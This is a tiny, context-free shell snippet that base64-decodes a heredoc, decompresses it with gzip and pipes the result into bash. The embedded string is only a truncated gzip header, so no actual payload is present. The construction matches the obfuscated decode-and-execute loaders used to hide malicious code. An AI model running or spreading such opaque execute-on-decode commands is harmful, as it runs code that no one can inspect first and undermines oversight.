base64 -d <<'X' | gzip -d | bash
H4sIAAAAAAAA
X
